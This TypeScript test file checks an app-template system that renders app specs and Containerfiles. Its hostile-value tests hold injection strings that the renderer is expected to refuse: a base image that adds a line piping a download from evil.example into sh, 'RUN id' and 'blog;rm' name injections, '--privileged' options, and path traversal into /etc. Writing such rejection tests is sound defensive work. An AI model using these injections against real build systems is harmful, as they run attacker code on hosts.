/**
 * Application templates are data (templates/apps/<name>/): every folder loads and renders to a
 * valid app spec, a new folder is a new template with no code change, hostile values are
 * refused naming the field, and a broken template is caught by its file name.
 */
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'node:test';
import { appTemplates, loadAppTemplate, renderAppSpec, renderContainerfile, UNBUILT_IMAGE } from '../../lib/app-templates.ts';
import { InputError } from '../../lib/errors.ts';

test('every folder of templates/apps is a template that renders to a valid app spec; static, container, node and django ship', () => {
  const templates = appTemplates();
  const folders = readdirSync(new URL('../../templates/apps/', import.meta.url), { withFileTypes: true }).filter((e) => e.isDirectory());
  assert.deepEqual(
    templates.map((t) => t.name),
    folders.map((f) => f.name).sort(),
  );
  for (const name of ['static', 'container', 'node', 'django'])
    assert.ok(
      templates.some((t) => t.name === name),
      name,
    );
  for (const template of templates) {
    const spec = renderAppSpec(template, { name: 'blog', image: 'registry.example.net/team/blog:1.2' });
    if (spec.container) assert.ok(spec.container.port > 0, template.name);
    // Only a built template serves static files from inside its image.
    assert.equal(spec.staticDir !== null, template.containerfile !== undefined, template.name);
    assert.equal(renderContainerfile(template, { name: 'blog' }) !== null, template.containerfile !== undefined, template.name);
  }
  assert.equal(renderAppSpec(loadAppTemplate('static'), { name: 'blog' }).container, null);
  assert.equal(
    renderAppSpec(loadAppTemplate('container'), { name: 'blog', image: 'localhost/busybox:latest' }).container?.image,
    'localhost/busybox:latest',
  );
  // A template's own image, unless the app brings one.
  assert.equal(renderAppSpec(loadAppTemplate('node'), { name: 'blog' }).container?.image, 'docker.io/library/node:22-slim');
  assert.equal(renderAppSpec(loadAppTemplate('node'), { name: 'blog', image: 'localhost/node:22' }).container?.image, 'localhost/node:22');
});

test('django is built from the source: gunicorn on 8000, collectstatic into its staticDir, the built image once there is one', () => {
  const django = loadAppTemplate('django');
  assert.deepEqual(django.meta.needs, []);
  // Before the first deploy there is no build: the app can still be created.
  const unbuilt = renderAppSpec(django, { name: 'blog' });
  assert.equal(unbuilt.container?.image, UNBUILT_IMAGE);
  const spec = renderAppSpec(django, { name: 'blog', image: 'localhost/up-blog-alice:3f2a9c' });
  assert.equal(spec.container?.image, 'localhost/up-blog-alice:3f2a9c');
  assert.equal(spec.container?.port, 8000);
  assert.deepEqual(spec.container?.command, []);
  assert.equal(spec.container?.env.DJANGO_SETTINGS_MODULE, 'app.settings');
  assert.deepEqual(spec.static, ['/static/']);
  assert.equal(spec.staticDir, '/app/staticfiles');
  assert.equal(spec.container?.healthcheck?.command[0], 'python3');

  const containerfile = renderContainerfile(django, { name: 'blog' })!;
  assert.match(containerfile, /^FROM localhost\/up-django-base:latest$/m);
  // No RUN: the build runs as root; collecting imports the tenant's project, so it runs after, in their id range.
  assert.doesNotMatch(containerfile, /^RUN /m);
  const dir = mkdtempSync(join(tmpdir(), 'up-app-templates-'));
  try {
    mkdirSync(join(dir, 'runs'));
    writeFileSync(join(dir, 'runs', 'template.json'), '{ "description": "runs at build time", "needs": [] }');
    writeFileSync(join(dir, 'runs', 'app.json.mustache'), '{ "container": null, "static": ["/"], "staticDir": null }');
    for (const step of ['RUN make', '  run make', 'ONBUILD RUN make']) {
      writeFileSync(join(dir, 'runs', 'Containerfile.mustache'), `FROM scratch\n${step}\n`);
      assert.throws(() => loadAppTemplate('runs', `${dir}/`), /runs a command at build time/, step);
    }
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
  assert.match(spec.collect!.join(' '), /collectstatic/);
  assert.match(spec.collect!.join(' '), /STATIC_ROOT = '\/app\/staticfiles'/);
  assert.match(containerfile, /gunicorn --bind 0\.0\.0\.0:8000 --workers 2/);
  assert.doesNotMatch(containerfile, /pip install/);
  assert.match(
    renderContainerfile(django, { name: 'blog', baseImage: 'registry.example.net/python-django:3.2' })!,
    /^FROM registry\.example\.net\/python-django:3\.2$/m,
  );
  for (const name of ['static', 'container', 'node']) assert.equal(renderContainerfile(loadAppTemplate(name), { name: 'blog' }), null);
});

test('adding a template is adding a folder: no code change', () => {
  const dir = mkdtempSync(join(tmpdir(), 'up-app-templates-'));
  try {
    mkdirSync(join(dir, 'hugo'));
    writeFileSync(join(dir, 'hugo', 'template.json'), '{ "description": "A Hugo site, built elsewhere", "needs": [] }');
    writeFileSync(join(dir, 'hugo', 'app.json.mustache'), '{ "container": null, "static": ["/"], "staticDir": null }');
    const [hugo] = appTemplates(`${dir}/`);
    assert.equal(hugo.name, 'hugo');
    assert.deepEqual(renderAppSpec(hugo, { name: 'docs' }), { container: null, static: ['/'], staticDir: null });

    // A built one: a Containerfile next to it, and its default base image.
    mkdirSync(join(dir, 'flask'));
    writeFileSync(join(dir, 'flask', 'template.json'), '{ "description": "Flask", "needs": [], "baseImage": "localhost/flask:3" }');
    writeFileSync(join(dir, 'flask', 'Containerfile.mustache'), 'FROM {{baseImage}}\nLABEL app={{name}}\nCOPY . /srv\n');
    writeFileSync(
      join(dir, 'flask', 'app.json.mustache'),
      '{ "container": { "image": "{{image}}", "command": [], "port": 5000, "env": {}, "healthcheck": null }, "static": ["/assets/"], "staticDir": "/srv/assets" }',
    );
    const flask = loadAppTemplate('flask', `${dir}/`);
    assert.equal(renderContainerfile(flask, { name: 'shop' }), 'FROM localhost/flask:3\nLABEL app=shop\nCOPY . /srv\n');
    assert.equal(renderAppSpec(flask, { name: 'shop' }).container?.image, UNBUILT_IMAGE);
    assert.equal(renderAppSpec(flask, { name: 'shop', image: 'localhost/up-shop-bob:1' }).staticDir, '/srv/assets');
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('hostile or missing values are refused naming the field, before anything is rendered', () => {
  const container = loadAppTemplate('container');
  const refused = (values: { name: string; image?: string }, field: string, status = 400) =>
    assert.throws(
      () => renderAppSpec(container, values),
      (e: Error) => e instanceof InputError && e.field === field && e.status === status,
      JSON.stringify(values),
    );
  refused({ name: 'blog' }, 'body/image', 422);
  for (const image of ['busybox", "command": ["sh"', 'busybox\\u0022', '--privileged', 'busybox latest', '../etc/passwd', 'a\nb'])
    refused({ name: 'blog', image }, 'body/image');
  for (const name of ['Blog', 'blog"', '-blog', 'blog;rm', '../x', ''.padEnd(40, 'a')]) refused({ name, image: 'busybox' }, 'body/name');
  assert.throws(() => loadAppTemplate('../nginx'), /invalid app template name/);

  // The Containerfile's values: a base image that could add a line, an option or a second stage is refused.
  const django = loadAppTemplate('django');
  const refusedBuild = (values: { name: string; baseImage?: string }, field: string) =>
    assert.throws(
      () => renderContainerfile(django, values),
      (e: Error) => e instanceof InputError && e.field === field && e.status === 400,
      JSON.stringify(values),
    );
  for (const baseImage of [
    'python:3.11\nRUN curl evil.example | sh',
    'python:3.11 AS x',
    '--network=host',
    'python:3.11"',
    "python'3",
    '{{name}}',
    '../python',
    'python:3.11\\',
    '',
    `localhost/${'a'.repeat(250)}`,
  ])
    refusedBuild({ name: 'blog', baseImage }, 'body/baseImage');
  for (const name of ['blog\nRUN id', 'blog"', '{{baseImage}}', '../x']) refusedBuild({ name }, 'body/name');
  for (const image of ['localhost/x:1\n', 'x" "y', `localhost/${'a'.repeat(250)}`])
    assert.throws(() => renderAppSpec(django, { name: 'blog', image }), InputError);
});

test('a broken template is caught by its file, never served', () => {
  const dir = mkdtempSync(join(tmpdir(), 'up-app-templates-'));
  const make = (name: string, meta: string, source: string, containerfile?: string) => {
    mkdirSync(join(dir, name));
    writeFileSync(join(dir, name, 'template.json'), meta);
    writeFileSync(join(dir, name, 'app.json.mustache'), source);
    if (containerfile !== undefined) writeFileSync(join(dir, name, 'Containerfile.mustache'), containerfile);
    return () => renderAppSpec(loadAppTemplate(name, `${dir}/`), { name: 'blog' });
  };
  const built = (staticDir: string) =>
    `{ "container": { "image": "{{image}}", "command": [], "port": 8000, "env": {}, "healthcheck": null }, "static": ["/static/"], "staticDir": ${JSON.stringify(staticDir)} }`;
  const ok = '{ "description": "x", "needs": [] }';
  try {
    assert.throws(make('notjson', ok, '{ "container": null, "static": [ }'), /notjson\/app\.json\.mustache does not render to JSON/);
    assert.throws(make('extra', ok, '{ "container": null, "static": [], "privileged": true }'), /extra\/app\.json\.mustache/);
    assert.throws(make('badpath', ok, '{ "container": null, "static": ["/../etc/"] }'), /badpath\/app\.json\.mustache/);
    assert.throws(make('raw', ok, '{ "container": null, "static": ["{{{name}}}"] }'), /raw\/app\.json\.mustache uses an unescaped tag/);
    assert.throws(make('badmeta', '{ "description": "x", "needs": ["root"] }', '{}'), /badmeta\/template\.json/);
    // staticDir: an absolute directory of plain segments inside the image, never a way out of it.
    const from = 'FROM {{baseImage}}\n';
    const meta = '{ "description": "x", "needs": [], "baseImage": "localhost/base:1" }';
    let n = 0;
    for (const staticDir of [
      '../etc',
      '/app/../etc',
      '/app/./static',
      'app/static',
      '/',
      '/proc/self',
      '/app/static files',
      '/app/"x',
      "/app/'x",
      '/app/x\n',
    ])
      assert.throws(make(`dir${n++}`, meta, built(staticDir), from), /app\.json\.mustache/, staticDir);
    assert.equal(make('okdir', meta, built('/app/staticfiles'), from)().staticDir, '/app/staticfiles');
    make('notbuilt', ok, built('/app/staticfiles'));
    assert.throws(
      () => renderAppSpec(loadAppTemplate('notbuilt', `${dir}/`), { name: 'blog', image: 'localhost/x:1' }),
      /notbuilt\/app\.json\.mustache has a staticDir but nothing builds its image/,
    );
    assert.throws(
      make('rawbuild', meta, built('/app/s'), 'FROM {{{baseImage}}}\n'),
      /rawbuild\/Containerfile\.mustache uses an unescaped tag/,
    );
    assert.throws(
      make('ampbuild', meta, built('/app/s'), 'FROM {{& baseImage}}\n'),
      /ampbuild\/Containerfile\.mustache uses an unescaped tag/,
    );
    // A built template with no default base image: the app must name one.
    make('nobase', ok, built('/app/s'), from);
    const nobase = loadAppTemplate('nobase', `${dir}/`);
    assert.throws(
      () => renderContainerfile(nobase, { name: 'blog' }),
      (e: Error) => e instanceof InputError && e.field === 'body/baseImage' && e.status === 422,
    );
    assert.equal(renderContainerfile(nobase, { name: 'blog', baseImage: 'localhost/py:3' }), 'FROM localhost/py:3\n');
    assert.throws(
      make('badbase', '{ "description": "x", "needs": [], "baseImage": "python:3 AS evil" }', built('/app/s'), from),
      /badbase\/template\.json/,
    );
    assert.throws(
      make('baseonly', '{ "description": "x", "needs": [], "baseImage": "python:3" }', ok.replace('x', 'y')),
      /baseonly\/template\.json has a baseImage but no Containerfile/,
    );
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});
